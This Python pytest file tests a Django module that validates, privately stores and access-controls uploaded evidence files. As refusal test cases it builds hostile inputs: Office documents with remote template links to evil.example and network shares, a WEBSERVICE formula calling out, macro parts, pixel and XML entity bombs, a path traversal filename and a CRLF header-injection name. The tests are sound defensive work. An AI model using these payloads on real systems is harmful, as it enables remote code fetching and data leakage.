"""Files that prove something: what they really are decides, they are kept privately, and only who may opens them."""

from __future__ import annotations

import io
import zipfile
import zlib
from dataclasses import replace
from hashlib import sha256
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from docx import Document
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from PIL import ExifTags, Image

from cases import evidence
from cases.editions.pinned import edition_of
from cases.errors import Conflict, Invalid
from cases.models import Evidence
from tests.story import Story
from tests.worlds import World, build_world, moment

AT = moment("2021-03-01")
NOISE = Image.effect_noise((64, 48), 60).convert("RGB")


@pytest.fixture
def world(db: None) -> World:
    return build_world()


@pytest.fixture
def story(world: World) -> Story:
    return Story.open(world).on("2021-03-01")


def picture(kind: str, **options: Any) -> bytes:
    buffer = io.BytesIO()
    NOISE.save(buffer, kind, **options)
    return buffer.getvalue()


def workbook(formula: str = "=SUM(A1:A2)") -> bytes:
    book = Workbook()
    sheet = book.worksheets[0]
    for value in (1, 2, formula):
        sheet.append([value])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def document() -> bytes:
    buffer = io.BytesIO()
    paper = Document()
    paper.add_paragraph("整改报告")
    paper.save(buffer)
    return buffer.getvalue()


def with_part(content: bytes, name: str, data: bytes) -> bytes:
    """The same archive with one part more, or with that part replaced."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename != name:
                new.writestr(entry.filename, old.read(entry))
        new.writestr(name, data)
    return buffer.getvalue()


def relationship(target: str, kind: str = "attachedTemplate") -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def examined(content: bytes, name: str, max_mb: int = 20) -> str:
    """The media type of an accepted file, or the code of its refusal."""
    try:
        return evidence.examine(SimpleUploadedFile(name, content), max_mb=max_mb).kind.media_type
    except Invalid as refusal:
        told = str(refusal.message) and "evidence" in refusal.faults
        return refusal.code if told else "refused without words"


JPEG, PNG, PDF = picture("JPEG"), picture("PNG"), b"%PDF-1.7\n%%EOF\n"
DOCX, XLSX = document(), workbook()


# ── what is accepted ───────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("content", "name", "media_type"),
    [
        (JPEG, "照片.jpg", "image/jpeg"),
        (picture("JPEG", progressive=True), "PHOTO.JPEG", "image/jpeg"),
        (PNG, "a.png", "image/png"),
        (PDF, "a.pdf ", "application/pdf"),
        (DOCX, "a.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (XLSX, "a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
)
def test_photos_pdf_word_and_excel_are_accepted(content: bytes, name: str, media_type: str) -> None:
    assert examined(content, name) == media_type


@pytest.mark.parametrize(
    ("content", "name", "code"),
    [
        (b"", "a.jpg", "empty_file"),
        (b"MZ", "a.exe", "type_not_allowed"),
        (b"<svg/>", "a.svg", "type_not_allowed"),
        (JPEG, "photo", "type_not_allowed"),
        (JPEG, "a.jpg.exe", "type_not_allowed"),
        (PNG, "a.jpg", "lying_extension"),
        (JPEG, "a.png", "lying_extension"),
        (b"<html>", "a.pdf", "lying_extension"),
        (XLSX, "a.docx", "lying_extension"),
        (DOCX, "a.xlsx", "lying_extension"),
        (XLSX[:500], "a.xlsx", "lying_extension"),
        (b"\xff\xd8\xff" + b"x" * 40, "a.jpg", "lying_extension"),
        (JPEG[:-900], "a.jpg", "damaged"),
        (PNG[:-900], "a.png", "damaged"),
        (b"\0\0\0\x18ftypheic" + b"\0" * 40, "IMG_1.HEIC", "heic"),
        (b"\0\0\0\x18ftypheic" + b"\0" * 40, "IMG_1.jpg", "heic"),
    ],
)
def test_what_a_file_really_is_decides(content: bytes, name: str, code: str) -> None:
    assert examined(content, name) == code


def test_a_file_over_the_limit_is_refused_and_one_at_the_limit_is_not() -> None:
    full = PDF + b" " * (1024 * 1024 - len(PDF))
    assert examined(full, "a.pdf", max_mb=1) == "application/pdf"
    assert examined(full + b" ", "a.pdf", max_mb=1) == "file_too_large"


def test_a_picture_of_too_many_pixels_is_refused_without_drawing_it() -> None:
    header = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (20_000).to_bytes(4, "big") * 2 + b"\x08\x02\0\0\0"
    bomb = header + zlib.crc32(header[12:]).to_bytes(4, "big") + b"\0\0\0\0IEND\xaeB`\x82"
    assert examined(bomb, "a.png") == "image_too_large"


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (with_part(XLSX, "xl/externalLinks/externalLink1.xml", b"<x/>"), "a.xlsx"),
        (with_part(XLSX, "xl/ExternalLinks/externalLink1.xml", b"<x/>"), "a.xlsx"),
        (with_part(XLSX, "xl/vbaProject.bin", b"x"), "a.xlsx"),
        (with_part(DOCX, "word/VBAPROJECT.bin", b"x"), "a.docx"),
        (with_part(XLSX, "xl/connections.xml", b"<x/>"), "a.xlsx"),
        (with_part(DOCX, "word/activeX/activeX1.xml", b"<x/>"), "a.docx"),
        (
            with_part(XLSX, "[Content_Types].xml", b"<Types>application/vnd.ms-excel.sheet.macroEnabled</Types>"),
            "a.xlsx",
        ),
        (with_part(DOCX, "word/_rels/settings.xml.rels", relationship("http://evil.example/t.dotm")), "a.docx"),
        (with_part(DOCX, "word/_rels/settings.xml.rels", relationship(r"\\server\share\t.dotm")), "a.docx"),
        (with_part(DOCX, "word/_rels/settings.xml.rels", relationship("file:////server/t.dotm")), "a.docx"),
        (with_part(DOCX, "word/_rels/x.xml.rels", relationship("https://x.example/1.png", "image")), "a.docx"),
        (workbook('=WEBSERVICE("http://evil.example")'), "a.xlsx"),
    ],
)
def test_office_files_that_run_or_fetch_something_are_refused(content: bytes, name: str) -> None:
    assert examined(content, name) == "reaches_outside"


def test_links_to_click_and_templates_on_the_own_disk_are_fine() -> None:
    for target, kind in (("https://www.nhc.gov.cn", "hyperlink"), (r"file:///C:\Users\li\t.dotx", "attachedTemplate")):
        assert "wordprocessingml" in examined(
            with_part(DOCX, "word/_rels/settings.xml.rels", relationship(target, kind)), "a.docx"
        )


def test_an_archive_that_unpacks_to_too_much_or_has_too_many_parts_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("cases.office_files.LARGEST_UNPACKED", 1_000_000)
    assert examined(with_part(XLSX, "xl/big.xml", b" " * 1_000_000), "a.xlsx") == "archive_too_large"
    monkeypatch.setattr("cases.office_files.MOST_ENTRIES", 5)
    assert examined(XLSX, "a.xlsx") == "archive_too_large"


def test_an_archive_with_a_broken_checksum_or_entities_is_refused() -> None:
    with zipfile.ZipFile(io.BytesIO(XLSX)) as archive:
        entry = archive.getinfo("xl/worksheets/sheet1.xml")
    place = entry.header_offset + 30 + len(entry.filename) + entry.compress_size // 2
    assert examined(XLSX[:place] + bytes([XLSX[place] ^ 255]) + XLSX[place + 1 :], "a.xlsx") == "lying_extension"
    bomb = b'<!DOCTYPE x [<!ENTITY a "aaaa">]><Relationships>&a;</Relationships>'
    assert examined(with_part(DOCX, "word/_rels/settings.xml.rels", bomb), "a.docx") == "lying_extension"


@given(st.sampled_from([JPEG, PNG, DOCX, XLSX]), st.integers(0, 40_000), st.binary(max_size=40))
def test_any_damage_ends_in_a_verdict_and_never_in_a_crash(content: bytes, place: int, noise: bytes) -> None:
    place %= len(content)
    spoilt = content[:place] + noise + content[place + len(noise) + len(noise) % 3 :]
    for name in ("a.jpg", "a.png", "a.docx", "a.xlsx"):
        assert examined(spoilt, name)


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        (r"C:\Users\li\照片.jpg", "照片.jpg"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("a\u202egnp.exe.pdf", "agnp.exe.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie: x.pdf"),
        ("长" * 300 + ".docx", "长" * 195 + ".docx"),
        ("", "file"),
    ],
)
def test_the_name_that_people_see_is_clean(given_name: str, kept: str) -> None:
    assert evidence.clean_name(given_name) == kept


# ── keeping ────────────────────────────────────────────────────────────────


def keep(story: Story, content: bytes = JPEG, **fields: Any) -> Any:
    values = {"purpose": Evidence.Purpose.SELF_CHECK, "item_code": "A1-08", "by": story.filler.user, "at": story.at}
    return evidence.store(case=story.case, upload=SimpleUploadedFile("照片.jpg", content), **values | fields)


def test_a_file_is_kept_under_a_name_that_tells_nothing_and_readable_by_the_owner_only(story: Story) -> None:
    kept = keep(story)
    assert (kept.name, kept.media_type) == ("照片.jpg", "image/jpeg")
    assert kept.sent_sha256 == sha256(JPEG).hexdigest()
    assert kept.file.name.startswith("evidence/")
    assert "照片" not in kept.file.name
    with kept.file.open("rb") as file:
        content = file.read()
    assert (kept.size, kept.sha256) == (len(content), sha256(content).hexdigest())
    assert Path(kept.file.path).stat().st_mode & 0o077 == 0
    line: Any = kept.history.get()
    assert (line.history_user, line.history_date) == (story.filler.user, story.at)


def test_the_same_file_for_the_same_item_is_kept_once_and_again_after_removal(story: Story) -> None:
    first = keep(story)
    assert keep(story) == first
    assert keep(story, item_code="A1-09") != first
    assert keep(story, content=picture("JPEG", quality=50)) != first
    evidence.remove(first, by=story.world.institution_filler, at=AT)
    assert keep(story) != first


@pytest.mark.parametrize("asked", [False, True])
def test_the_place_of_a_photo_is_kept_only_where_the_edition_of_the_case_asks_for_it(
    asked: bool, story: Story, monkeypatch: pytest.MonkeyPatch
) -> None:
    exif = Image.Exif()
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = (43.0, 49.0, 30.0)
    settings = replace(edition_of(story.case).settings, keep_photo_location=asked)
    monkeypatch.setattr(evidence, "edition_of", lambda _case: SimpleNamespace(settings=settings))
    with keep(story, content=picture("JPEG", exif=exif.tobytes())).file.open("rb") as file, Image.open(file) as image:
        assert bool(image.getexif().get_ifd(ExifTags.IFD.GPSInfo)) is asked


def test_a_refused_file_leaves_nothing_behind(story: Story) -> None:
    def files() -> int:
        if not default_storage.exists("evidence"):
            return 0
        folders = default_storage.listdir("evidence")[0]
        return sum(len(default_storage.listdir(f"evidence/{folder}")[1]) for folder in folders)

    before = files()
    with pytest.raises(Invalid):
        keep(story, content=PNG)
    assert files() == before
    assert not Evidence.objects.exists()


def test_removing_hides_a_file_once_and_keeps_it(story: Story) -> None:
    kept = keep(story)
    evidence.remove(kept, by=story.world.institution_filler, at=AT)
    assert not Evidence.objects.current().exists()
    assert default_storage.exists(kept.file.name)
    with pytest.raises(Conflict):
        evidence.remove(kept, by=story.world.institution_filler, at=AT)


# ── opening ────────────────────────────────────────────────────────────────


def may_open(world: World, kept: Evidence, at: str = "2021-06-01") -> set[str]:
    """The personas who may open the file."""
    return {
        role for role in world.people if evidence.readable(world.viewer(role, moment(at))).filter(pk=kept.pk).exists()
    }


OWN = {"institution_filler", "institution_head"}
ABOVE = {
    "nation_officer",
    "county_officer",
    "county_approver",
    "colleague",
    "prefecture_officer",
    "prefecture_head",
    "region_officer",
    "region_head",
    "inspector",
}


def test_files_of_a_draft_are_the_institutions_own_until_it_is_submitted(world: World, story: Story) -> None:
    kept = keep(story)
    assert may_open(world, kept) == OWN
    story.on("2021-03-02").submit()
    assert may_open(world, kept) == OWN | ABOVE
    later = keep(story.on("2021-03-03"), item_code="A1-09")
    assert may_open(world, later) == OWN


def test_what_was_taken_out_before_submission_stays_the_institutions_own(world: World, story: Story) -> None:
    mistaken, shown = keep(story), keep(story, item_code="A1-09")
    evidence.remove(mistaken, by=world.institution_filler, at=moment("2021-03-01 10:00"))
    story.on("2021-03-02").submit()
    evidence.remove(shown, by=world.institution_filler, at=moment("2021-03-05"))
    assert may_open(world, mistaken) == OWN
    assert may_open(world, shown) == OWN | ABOVE


def served(user: Any, kept: Any, query: str = "") -> tuple[Any, bytes]:
    """The answer's headers and the file."""
    client = Client()
    client.force_login(user)
    answer: Any = client.get(reverse("evidence", args=[kept.pk]) + query)
    assert answer.status_code == 200
    content = answer.getvalue()
    return answer, content


def test_a_file_is_served_as_an_attachment_that_nothing_can_run(story: Story) -> None:
    kept = keep(story)
    answer, content = served(story.filler.user, kept)
    assert sha256(content).hexdigest() == kept.sha256
    assert answer["Content-Type"] == "image/jpeg"
    assert answer["Content-Disposition"].startswith("attachment;")
    assert "%E7%85%A7%E7%89%87.jpg" in answer["Content-Disposition"]
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert "no-store" in answer["Cache-Control"]
    assert served(story.filler.user, kept, "?preview=1")[0]["Content-Disposition"].startswith("inline")


def test_only_pictures_are_shown_in_place(story: Story) -> None:
    upload = SimpleUploadedFile("a.pdf", PDF)
    kept = evidence.store(
        case=story.case, upload=upload, purpose="self_check", by=story.world.institution_filler, at=AT
    )
    assert served(story.filler.user, kept, "?preview=1")[0]["Content-Disposition"].startswith("attachment")


def test_another_institutions_file_is_not_there_and_a_stranger_signs_in_first(world: World, story: Story) -> None:
    kept = keep(story)
    client = Client()
    assert client.get(reverse("evidence", args=[kept.pk])).status_code == 302
    client.force_login(world.other_filler)
    assert client.get(reverse("evidence", args=[kept.pk])).status_code == 404
    assert client.get(reverse("evidence", args=[10**9])).status_code == 404
    assert client.post(reverse("evidence", args=[kept.pk])).status_code == 405
